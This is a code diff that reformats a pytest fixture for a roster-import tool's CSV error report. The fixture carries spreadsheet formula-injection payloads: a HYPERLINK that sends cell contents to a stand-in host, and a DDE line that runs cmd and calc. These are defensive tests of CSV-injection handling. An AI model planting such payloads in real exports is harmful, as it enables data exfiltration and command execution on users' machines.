@@ -12,8 +12,14 @@ from netra.people.importer import errors_as_csv
 
 from .roster_files import HEADER, write
 
-FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.fixture
@@ -22,12 +28,24 @@ def report(tmp_path, region):
     writer = csv.writer(rows)
     for formula in FORMULAS:
         # Each value lands in a column that refuses it, so it comes back in the report.
-        writer.writerow(["198501012010011001", "Nama", formula, "Staf", "Pelaksana",
-                         "Dinas Pendidikan", formula, formula, formula])
+        writer.writerow(
+            [
+                "198501012010011001",
+                "Nama",
+                formula,
+                "Staf",
+                "Pelaksana",
+                "Dinas Pendidikan",
+                formula,
+                formula,
+                formula,
+            ]
+        )
     # Header names come back too (in the column cell), and match with their signs ignored.
     header = HEADER.replace("Email", "=Email")
-    result = import_roster_file(write(tmp_path, header + rows.getvalue()),
-                                region=region("35.09"), actor=None)
+    result = import_roster_file(
+        write(tmp_path, header + rows.getvalue()), region=region("35.09"), actor=None
+    )
     with translation.override("id"):
         text = errors_as_csv(result.errors)
     return list(csv.reader(io.StringIO(text)))[1:]
